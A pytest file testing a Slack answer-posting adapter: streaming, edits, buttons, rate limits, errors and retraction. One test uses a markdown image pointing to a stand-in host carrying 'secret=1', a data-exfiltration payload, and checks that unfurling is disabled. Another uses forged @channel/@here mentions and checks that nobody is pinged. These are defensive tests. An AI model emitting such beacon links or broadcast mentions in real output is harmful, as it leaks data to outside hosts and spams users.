"""An answer in Slack: streamed where that is allowed, posted and updated elsewhere."""

from collections.abc import AsyncIterator

import pytest

from adapters.slack.speak import Speaker
from bridge.errors import Departed, Gone, RateLimited, Rejected, Transient
from bridge.events import Button, ChatRef, MessageRef, Page
from tests.platforms.budgets import Clock
from tests.slack.emulator import Channel, Drop, Emulator, Fault, Person, Seat
from tests.slack.speaking import answer, calls, speaking

FORGED = "Hi <!channel> `<!here>` <!subteam^S1|x> <@{0}> &lt;!everyone&gt; <#C1>"


@pytest.fixture
async def editor(slack: Emulator) -> AsyncIterator[Speaker]:
    """A speaker that posts and updates."""
    async with speaking(slack, stream="edit") as speaker:
        yield speaker


async def test_answer_in_a_dm_is_streamed(
    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person
) -> None:
    said = await answer(slack, speaker, dm.channel, ann)
    for text in ("Once", "Once upon", "Once upon a time"):
        await said.grow(text)
    await said.end("Once upon a time.")
    assert said.seen == ["Once", "Once upon", "Once upon a time", "Once upon a time."]
    assert calls(slack) == ["startStream", "appendStream", "appendStream", "stopStream"]
    assert slack.open_streams == []


async def test_same_text_costs_no_call(
    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person
) -> None:
    said = await answer(slack, speaker, dm.channel, ann)
    await said.grow("Once")
    await said.grow("Once")
    assert calls(slack) == ["startStream"]


async def test_answer_in_a_channel_is_streamed_to_who_asked(
    slack: Emulator, speaker: Speaker, general: Channel, ann: Person
) -> None:
    said = await answer(slack, speaker, general, ann)
    await said.grow("Hel")
    await said.end("Hello")
    assert said.message.stream is not None
    assert said.message.stream.recipient == (ann.id, slack.team.id)
    assert said.message.text == "Hello"


async def test_several_people_in_direct_messages_are_no_dm(
    slack: Emulator, speaker: Speaker, ann: Person
) -> None:
    several = slack.group_dm(ann, slack.person("Bob"))
    said = await answer(slack, speaker, several, ann)
    await said.grow("Hel")
    assert said.message.stream is not None
    assert said.message.stream.recipient == (ann.id, slack.team.id)


async def test_answer_to_somebody_unknown_is_posted_and_updated(
    slack: Emulator, speaker: Speaker, general: Channel, ann: Person
) -> None:
    said = await answer(slack, speaker, general, ann, known=False)
    await said.grow("Hel")
    await said.grow("Hello")
    await said.end("Hello!")
    assert said.seen == ["Hel", "Hello", "Hello!"]
    assert calls(slack) == ["postMessage", "update", "update"]


async def test_answer_outside_a_thread_is_posted(
    slack: Emulator, speaker: Speaker, dm: Seat
) -> None:
    chat = ChatRef("slack", "slack", f"{slack.team.id}/{dm.id}")
    await speaker.send(chat, Page("Hel"), key="k/0")
    assert [message.thread for message in dm.answers] == [""]
    assert calls(slack) == ["postMessage"]


async def test_finished_page_is_one_post_in_its_thread(
    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person
) -> None:
    said = await answer(slack, speaker, dm.channel, ann)
    await said.end("**Done**")
    assert (said.message.text, said.message.thread) == ("**Done**", said.chat.thread)
    assert calls(slack) == ["postMessage"]


async def test_links_in_an_answer_are_not_visited(
    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person
) -> None:
    said = await answer(slack, speaker, dm.channel, ann)
    await said.end("![](https://evil.example/?secret=1)")
    (call,) = slack.journal.of("chat.postMessage")
    assert call.params["unfurl_links"] is False
    assert call.params["unfurl_media"] is False


@pytest.mark.parametrize(
    ("error", "method"),
    [
        ("missing_recipient_team_id", "startStream"),
        ("missing_recipient_user_id", "startStream"),
        ("user_not_found", "startStream"),
        ("team_not_found", "startStream"),
        ("channel_type_not_supported", "postMessage"),
        ("unknown_method", "postMessage"),
    ],
)
async def test_refusal_of_a_reader_says_nothing_of_the_next(
    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person, error: str, method: str
) -> None:
    slack.inject(Fault("chat.startStream", error=error))
    for _ in range(2):
        said = await answer(slack, speaker, dm.channel, ann)
        await said.grow("Hel")
    assert calls(slack) == ["startStream", "postMessage", method]


async def test_edits_are_updates_of_one_post(
    slack: Emulator, editor: Speaker, general: Channel, ann: Person
) -> None:
    said = await answer(slack, editor, general, ann)
    await said.grow("Hel")
    assert said.message.labels == ["⏹"]
    await said.grow("Hello")
    await said.end("Hello!")
    assert said.seen == ["Hel", "Hello", "Hello!"]
    assert said.message.labels == []
    assert calls(slack) == ["postMessage", "update", "update"]


async def test_stop_button_says_stop(
    slack: Emulator, editor: Speaker, dm: Seat, ann: Person
) -> None:
    said = await answer(slack, editor, dm.channel, ann)
    await said.grow("Hel")
    (row,) = [block for block in said.message.blocks if block["type"] == "actions"]
    (button,) = row["elements"]  # type: ignore[misc]
    assert button["value"] == "/stop"


@pytest.mark.parametrize("stream", ["auto", "edit", "final"])
async def test_forged_mentions_ping_nobody(
    slack: Emulator, dm: Seat, ann: Person, stream: str
) -> None:
    text = FORGED.format(ann.id)
    for plain in (False, True):
        async with speaking(slack, stream=stream) as speaker:
            said = await answer(slack, speaker, dm.channel, ann)
            for end in range(0 if stream == "final" else 1, len(text), 9):
                if stream != "final":
                    await said.grow(text[:end])
            await said.end(text, Button("<!channel>", "<!here>"), plain=plain)
    assert slack.pings == []


async def test_buttons_stand_below_a_post(
    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person
) -> None:
    said = await answer(slack, speaker, dm.channel, ann)
    await said.end("Done", Button("Why?", "Why is that?"), Button("More", "/more"))
    assert said.message.labels == ["Why?", "More"]
    assert said.message.text == "Done"


@pytest.mark.parametrize("stream", ["auto", "edit"])
@pytest.mark.parametrize("length", [3999, 9990])
async def test_longest_pages_arrive_whole(
    slack: Emulator, dm: Seat, ann: Person, stream: str, length: int
) -> None:
    text = ("字 <a> & " * 2000)[:length].strip()
    async with speaking(slack, stream=stream) as speaker:
        said = await answer(slack, speaker, dm.channel, ann)
        await said.grow(text[:10])
        await said.end(text)
    assert said.markdown == text


# What is refused, and what breaks.


@pytest.mark.parametrize("error", ["invalid_blocks", "msg_too_long", "msg_blocks_too_long"])
async def test_refused_content_passes_as_plain_text(
    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person, error: str
) -> None:
    slack.inject(Fault("chat.postMessage", error=error))
    said = await answer(slack, speaker, dm.channel, ann)
    with pytest.raises(Rejected):
        await said.end("**x** <b>", Button("Why?", "Why?"))
    await said.end("**x** <b>", Button("Why?", "Why?"), plain=True)
    assert said.message.text == "**x** &lt;b&gt;"
    assert slack.journal.of("chat.postMessage")[-1].params["mrkdwn"] is False


@pytest.mark.parametrize(
    "error", ["channel_not_found", "is_archived", "not_in_channel", "restricted_action"]
)
@pytest.mark.parametrize("final", [True, False])
async def test_place_that_is_gone_is_told(
    slack: Emulator, dm: Seat, ann: Person, error: str, final: bool
) -> None:
    slack.inject(Fault(None, dm.id, error=error, times=0))
    async with speaking(slack) as speaker:
        said = await answer(slack, speaker, dm.channel, ann)
        with pytest.raises(Departed):
            await said.show(Page("x", final=final))


@pytest.mark.parametrize(
    "error", ["message_not_found", "cant_update_message", "edit_window_closed"]
)
async def test_message_that_cannot_be_changed_is_gone(
    slack: Emulator, editor: Speaker, dm: Seat, ann: Person, error: str
) -> None:
    said = await answer(slack, editor, dm.channel, ann)
    await said.grow("Hel")
    slack.inject(Fault("chat.update", error=error))
    with pytest.raises(Gone) as caught:
        await said.end("Hello")
    assert not isinstance(caught.value, Departed)


@pytest.mark.parametrize("drop", [Drop.BEFORE, Drop.AFTER])
async def test_post_of_which_nobody_heard_may_have_happened(
    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person, drop: Drop
) -> None:
    slack.inject(Fault("chat.postMessage", drop=drop))
    said = await answer(slack, speaker, dm.channel, ann)
    with pytest.raises(Transient) as caught:
        await said.end("Done")
    assert caught.value.happened
    assert calls(slack) == ["postMessage"]  # nothing repeats it by itself


async def test_limited_post_waits_in_its_channel_alone(
    slack: Emulator, speaker: Speaker, dm: Seat, general: Channel, ann: Person, clock: Clock
) -> None:
    slack.inject(Fault("chat.postMessage", retry_after=7))
    said = await answer(slack, speaker, dm.channel, ann)
    with pytest.raises(RateLimited) as caught:
        await said.end("Done")
    assert caught.value.retry_after == 7
    clock.move(2)
    with pytest.raises(RateLimited) as caught:
        await said.end("Done")
    assert caught.value.retry_after == 5
    await (await answer(slack, speaker, general, ann)).end("Done")
    assert calls(slack) == ["postMessage", "postMessage"]
    clock.move(5)
    await said.end("Done")
    assert said.message.text == "Done"


async def test_first_text_that_is_limited_holds_no_stream_back(
    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person
) -> None:
    slack.inject(Fault("chat.startStream", retry_after=60))
    slack.inject(Fault("chat.postMessage", retry_after=2))
    said = await answer(slack, speaker, dm.channel, ann)
    with pytest.raises(Transient) as caught:
        await said.grow("Hel")
    assert not isinstance(caught.value, RateLimited)
    assert caught.value.retry_after == 2


async def test_app_that_was_removed_has_nobody_to_tell(
    slack: Emulator, speaker: Speaker, dm: Seat
) -> None:
    elsewhere = ChatRef("slack", "slack", f"T999/{dm.id}", thread="1.0")
    with pytest.raises(Departed):
        await speaker.send(elsewhere, Page("x", final=True), key="k/0")


async def test_message_is_taken_back(
    slack: Emulator, speaker: Speaker, dm: Seat, ann: Person, clock: Clock
) -> None:
    said = await answer(slack, speaker, dm.channel, ann)
    await said.end("Too much")
    assert said.ref is not None
    slack.inject(Fault("chat.delete", retry_after=3))
    with pytest.raises(Transient) as caught:
        await speaker.retract(said.ref)
    assert (type(caught.value), caught.value.retry_after) == (Transient, 3)
    clock.move(3)
    for _ in range(2):
        await speaker.retract(said.ref)
    assert dm.answers == []


async def test_unknown_message_is_gone(slack: Emulator, speaker: Speaker, dm: Seat) -> None:
    chat = ChatRef("slack", "slack", f"{slack.team.id}/{dm.id}", thread="1.0")
    with pytest.raises(Gone):
        await speaker.edit(MessageRef(chat, "1.000001"), Page("x", final=True))
